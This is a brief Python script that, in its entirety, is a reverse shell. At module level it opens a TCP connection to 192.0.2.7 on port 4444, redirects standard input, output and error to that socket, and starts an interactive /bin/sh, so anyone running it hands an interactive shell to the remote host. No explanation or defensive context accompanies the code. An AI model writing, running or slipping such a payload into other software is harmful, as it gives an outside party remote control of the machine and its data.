# names: link number connect
import os
import socket
import subprocess
def connect():
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.connect(("192.0.2.7", 4444))
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    subprocess.call(["/bin/sh", "-i"])
connect()
